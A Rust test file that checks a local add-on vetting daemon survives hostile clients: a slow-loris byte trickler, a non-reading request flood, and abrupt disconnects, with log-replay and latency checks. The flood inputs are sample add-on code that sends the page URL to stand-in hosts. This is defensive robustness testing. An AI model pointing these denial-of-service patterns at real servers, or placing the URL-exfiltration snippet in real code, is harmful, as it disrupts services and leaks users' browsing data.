//! Hostile-client tests for the event-driven server core: clients that
//! trickle bytes, clients that never read their responses, and clients
//! that vanish mid-request must not stall or crash the daemon — and the
//! structured event log of such a session (connection lifecycle events
//! included) must still replay into consistent per-job histories.

use addon_sig::sigobs::replay::replay_log;
use addon_sig::sigobs::{EventLog, Level};
use addon_sig::sigserve::{Client, ServeConfig, Server};
use minijson::Json;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::Arc;
use std::time::{Duration, Instant};

/// Binds an ephemeral daemon on the real pipeline, with an in-memory
/// debug log deep enough for a whole test session.
fn bind_logged(mut cfg: ServeConfig) -> (Server, Arc<EventLog>) {
    let log = Arc::new(EventLog::in_memory(Level::Debug).with_tail_cap(16_384));
    cfg.log = Some(log.clone());
    let server = Server::builder()
        .config(cfg)
        .addr("127.0.0.1:0")
        .analyze(addon_sig::service_engine)
        .start()
        .expect("bind");
    (server, log)
}

/// Replays the daemon's log and asserts every job lifecycle validates;
/// connection events (`conn_accepted`/`conn_closed`/...) ride along.
fn assert_replays(log: &EventLog) {
    log.flush();
    let text = log.tail_lines().join("\n");
    let replay = replay_log(&text).expect("hostile-session log must replay");
    for (job, timeline) in &replay.timelines {
        assert!(
            timeline.outcome.is_some(),
            "job {job}: inconsistent lifecycle"
        );
    }
    assert!(
        text.contains("\"event\":\"conn_accepted\"") && text.contains("\"event\":\"conn_closed\""),
        "a debug log must carry the connection lifecycle"
    );
}

#[test]
fn slow_loris_does_not_stall_other_clients() {
    let (server, log) = bind_logged(ServeConfig::default());
    let addr = server.local_addr();

    // The loris trickles a valid request one byte at a time, never
    // finishing its line during the test.
    let request = Json::parse(r#"{"kind":"vet","name":"loris","source":"var l = 1;"}"#)
        .unwrap()
        .to_string_compact();
    let mut loris = TcpStream::connect(addr).expect("loris connect");
    let mut healthy = Client::connect(addr).expect("healthy connect");
    let mut trickled = 0usize;
    let t0 = Instant::now();
    for (i, byte) in request.as_bytes().iter().take(20).enumerate() {
        loris.write_all(&[*byte]).expect("loris byte");
        trickled = i + 1;
        // Between every dribbled byte, a well-behaved client gets a
        // full round trip promptly — the loris holds no shared lock.
        let resp = healthy
            .vet_source(Some("healthy"), "var h = content.location.href;")
            .expect("healthy vet");
        assert_eq!(resp["verdict"], "ok");
    }
    assert!(trickled > 0);
    assert!(
        t0.elapsed() < Duration::from_secs(20),
        "healthy round trips must not be serialized behind the loris"
    );

    // The loris eventually finishes its line and still gets an answer:
    // partial lines buffer per-connection, they don't poison anything.
    loris
        .write_all(&request.as_bytes()[20.min(request.len())..])
        .expect("loris rest");
    loris.write_all(b"\n").expect("loris newline");
    let mut resp = Vec::new();
    let mut one = [0u8; 1024];
    loop {
        let n = loris.read(&mut one).expect("loris read");
        assert!(n > 0, "daemon closed on the completed loris request");
        resp.extend_from_slice(&one[..n]);
        if resp.contains(&b'\n') {
            break;
        }
    }
    let line = String::from_utf8(resp).expect("utf8 response");
    let parsed = Json::parse(line.lines().next().unwrap()).expect("json response");
    assert_eq!(parsed["verdict"], "ok", "completed loris request is served");

    let ack = healthy.shutdown().expect("shutdown");
    assert_eq!(ack["kind"], "shutdown_ack");
    drop(loris);
    server.join();
    assert_replays(&log);
}

#[test]
fn never_reading_client_is_shed_not_blocking() {
    // A tiny outbound buffer so a flood from a non-reading client trips
    // backpressure quickly instead of needing megabytes of responses.
    let cfg = ServeConfig {
        outbuf_cap: 4 * 1024,
        ..ServeConfig::default()
    };
    let (server, log) = bind_logged(cfg);
    let addr = server.local_addr();

    // The hostile client pipelines many requests and never reads one
    // byte of response. Distinct sources defeat the cache so every
    // accepted item produces a real (multi-KB) signature response.
    let mut hostile = TcpStream::connect(addr).expect("hostile connect");
    let mut sent = 0usize;
    for i in 0..600 {
        let req = format!(
            "{{\"kind\":\"vet\",\"name\":\"flood{i}\",\"source\":\"var f{i} = content.location.href; XHRWrapper('http://x{i}.com').send(f{i});\"}}\n"
        );
        // Once the daemon kills the connection (hard backpressure cap)
        // the write side eventually fails; that is the success mode.
        match hostile.write_all(req.as_bytes()) {
            Ok(()) => sent += 1,
            Err(_) => break,
        }
    }
    assert!(sent > 0);

    // While the flood is outstanding, a healthy client stays responsive:
    // every request is answered promptly. Early answers may be typed
    // queue sheds (the flood legitimately fills the shared job queue);
    // once the workers drain it, verdicts come back `ok`.
    let mut healthy = Client::connect(addr).expect("healthy connect");
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let t0 = Instant::now();
        let resp = healthy
            .vet_source(Some("healthy"), "var ok = 1;")
            .expect("healthy vet");
        assert!(
            t0.elapsed() < Duration::from_secs(5),
            "healthy round trip stalled behind the non-reading flood"
        );
        if resp["verdict"] == "ok" {
            break;
        }
        assert_eq!(resp["kind"], "overloaded", "unexpected answer: {resp}");
        assert!(
            Instant::now() < deadline,
            "queue never drained behind the flood"
        );
        std::thread::sleep(Duration::from_millis(20));
    }

    // The daemon shed for backpressure (typed responses it queued while
    // the buffer had room are fine; past the cap items are shed and the
    // connection is eventually closed rather than buffering unbounded).
    let sheds = loop {
        let stats = healthy.stats().expect("stats");
        let sheds = stats["conns"]["backpressure_sheds"].as_f64().unwrap_or(0.0);
        if sheds > 0.0 {
            break sheds;
        }
        assert!(
            Instant::now() < deadline,
            "flood never tripped write backpressure"
        );
        std::thread::sleep(Duration::from_millis(20));
    };
    assert!(sheds > 0.0);

    let ack = healthy.shutdown().expect("shutdown");
    assert_eq!(ack["kind"], "shutdown_ack");
    drop(hostile);
    server.join();
    assert_replays(&log);
}

#[test]
fn mid_request_disconnect_leaves_a_replayable_log() {
    let (server, log) = bind_logged(ServeConfig::default());
    let addr = server.local_addr();

    // Submit a real request and slam the connection before reading the
    // response; repeat a few times, interleaved with half-written lines.
    for i in 0..4 {
        let mut ghost = TcpStream::connect(addr).expect("ghost connect");
        if i % 2 == 0 {
            let req = format!(
                "{{\"kind\":\"vet\",\"name\":\"ghost{i}\",\"source\":\"var g{i} = content.location.href;\"}}\n"
            );
            ghost.write_all(req.as_bytes()).expect("ghost request");
        } else {
            // A partial line: the daemon must just discard the fragment.
            ghost.write_all(b"{\"kind\":\"vet\",\"na").expect("ghost fragment");
        }
        drop(ghost); // disconnect with the job (or fragment) in flight
    }

    // The daemon survives and still serves; its accounting caught up.
    let mut healthy = Client::connect(addr).expect("healthy connect");
    let resp = healthy.vet_source(Some("after"), "var a = 1;").expect("vet");
    assert_eq!(resp["verdict"], "ok");
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let stats = healthy.stats().expect("stats");
        let closed = stats["conns"]["closed"].as_f64().unwrap_or(0.0);
        let accepted = stats["jobs"]["accepted"].as_f64().unwrap_or(0.0);
        let completed = stats["jobs"]["completed"].as_f64().unwrap_or(0.0);
        // All 4 ghosts closed, and every accepted job still ran to
        // completion even though its requester vanished.
        if closed >= 4.0 && completed >= accepted {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "ghost connections never reconciled (closed {closed}, {completed}/{accepted} jobs)"
        );
        std::thread::sleep(Duration::from_millis(20));
    }

    let ack = healthy.shutdown().expect("shutdown");
    assert_eq!(ack["kind"], "shutdown_ack");
    server.join();
    // Orphaned jobs must still terminate in the log (`job_done` after
    // their connection died), so the replay validator stays green.
    assert_replays(&log);
}

#[test]
fn sequential_round_trips_are_not_nagle_delayed() {
    // Regression guard for the nonblocking write path: a lost
    // TCP_NODELAY (or a response split across a short write and a
    // delayed flush) costs ~40ms per round trip to delayed ACKs, which
    // this budget is far below at 30 round trips.
    let (server, log) = bind_logged(ServeConfig::default());
    let mut client = Client::connect(server.local_addr()).expect("connect");
    let warm = client.vet_source(Some("warm"), "var w = 1;").expect("warm");
    assert_eq!(warm["verdict"], "ok");
    const ROUNDS: usize = 30;
    let t0 = Instant::now();
    for _ in 0..ROUNDS {
        let resp = client.vet_source(Some("warm"), "var w = 1;").expect("vet");
        assert_eq!(resp["verdict"], "ok");
        assert_eq!(resp["cached"], Json::Bool(true));
    }
    let elapsed = t0.elapsed();
    assert!(
        elapsed < Duration::from_millis(40 * ROUNDS as u64 / 2),
        "{ROUNDS} cached round trips took {elapsed:?}: Nagle/delayed-ACK stall"
    );
    let ack = client.shutdown().expect("shutdown");
    assert_eq!(ack["kind"], "shutdown_ack");
    server.join();
    assert_replays(&log);
}
